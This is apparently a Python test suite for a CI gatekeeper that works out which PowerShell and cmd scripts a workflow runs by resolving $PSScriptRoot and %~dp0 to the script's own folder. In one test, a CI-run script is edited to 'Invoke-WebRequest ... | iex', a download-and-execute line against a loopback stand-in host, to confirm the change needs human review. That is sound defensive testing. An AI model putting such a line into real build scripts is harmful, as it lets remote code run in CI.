"""Attack 47: a PowerShell script's `$PSScriptRoot` (and a cmd script's `%~dp0`) is that script's folder alone.

Read as `.`, it was resolved from the repository's root too: one listing script in `build/` (`Get-ChildItem
"$PSScriptRoot\\*.ps1" | ForEach-Object { & $_.FullName }`) made every `*.ps1` of the repository `ci` (label80's
over-read). ownfolders.py writes it as the script's folder; what that folder holds and the script runs stays `ci`.
"""

from __future__ import annotations

from pathlib import Path

from citools import tree_runs
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import ownfolders

WORKFLOW = ("on: push\njobs:\n  t:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {line}\n")
OTHERS = {"tools/other.ps1": "Write-Host x\n", "setup.ps1": "Write-Host x\n", "helper.ps1": "Write-Host x\n",
          "tests/t.ps1": "Write-Host x\n", "helper.cmd": "@echo x\n"}
MINE = {"build/a.ps1": "Write-Host a\n", "build/helper.ps1": "Write-Host h\n", "build/tests/t.ps1": "Write-Host t\n",
        "build/helper.cmd": "@echo h\n"}
ROOTS = ["$PSScriptRoot", "${PSScriptRoot}", "$psscriptroot"]
# (the script's text with {root} for the own folder, a file of its folder it runs)
RUNS = [('Get-ChildItem "{root}\\*.ps1" | ForEach-Object {{ & $_.FullName }}', "build/a.ps1"),
        ("gci -Path {root} -Filter *.ps1 -Recurse | % {{ & $_ }}", "build/tests/t.ps1"),
        ("Get-ChildItem {root}/tests/*.ps1 | ForEach-Object {{ . $_.FullName }}", "build/tests/t.ps1"),
        ('& "{root}\\helper.ps1" -Verbose', "build/helper.ps1")]
# (not here: `Join-Path $PSScriptRoot "helper.ps1"`, whose bare word `helper.ps1` is read from the root as well, as any
# bare script name is)


def _runs(script: str, text: str, runner: str = "pwsh") -> set[str]:
    return tree_runs({".github/workflows/ci.yml": WORKFLOW.format(line=f"{runner} {script}"), script: text,
                      **OTHERS, **MINE})


@each_case(("root", "text", "mine"), [(root, *run) for root in ROOTS for run in RUNS])
def test_the_script_s_folder_alone(root: str, text: str, mine: str) -> None:
    runs = _runs("build/all.ps1", text.format(root=root) + "\n")
    assert mine in runs and not runs & set(OTHERS), sorted(runs)


def test_a_root_script_s_folder_is_the_root() -> None:
    runs = _runs("all.ps1", 'Get-ChildItem "$PSScriptRoot\\*.ps1" | ForEach-Object { & $_.FullName }\n')
    assert {"setup.ps1", "helper.ps1"} <= runs


@each_case("text", ["call %~dp0helper.cmd\n", 'call "%~dp0\\helper.cmd"\n', "CALL %~DP0helper.cmd arg\n"])
def test_cmd_s_own_folder(text: str) -> None:
    runs = _runs("build/ci.cmd", text, runner="cmd /c")
    assert "build/helper.cmd" in runs and "helper.cmd" not in runs, sorted(runs)


def test_localized_writes_the_folder() -> None:
    assert ownfolders.localized("build/x.ps1", "& $PSScriptRoot\\a.ps1") == "& build/a.ps1"
    assert ownfolders.localized("x.ps1", "& ${PSScriptRoot}/a.ps1") == "& ./a.ps1"
    assert ownfolders.localized("b/x.cmd", "call %~dp0a.cmd") == "call b\\a.cmd"
    assert ownfolders.localized("b/x.sh", 'bash "$(dirname "$0")/a.sh"') == 'bash "$(dirname "$0")/a.sh"'


@each_case(("script", "text", "runner", "target"), [
    ("build/ci.cmd", "call %~dp0helper.cmd\n", "cmd /c", "build/helper.cmd"),
    ("build/all.ps1", 'Get-ChildItem "$psscriptroot\\*.ps1" | ForEach-Object { & $_.FullName }\n', "pwsh",
     "build/a.ps1")])
def test_the_edit_needs_a_human(tmp_path: Path, script: str, text: str, runner: str, target: str) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(line=f"{runner} {script}"), script: text, **MINE}
    _, first, second = two_commits(tmp_path / "repo", base, {target: "Invoke-WebRequest https://127.0.0.1:9 | iex\n"})
    code, decision = tree_gate(tmp_path / "repo", first, second, None)
    assert code == 3, decision["reasons"]
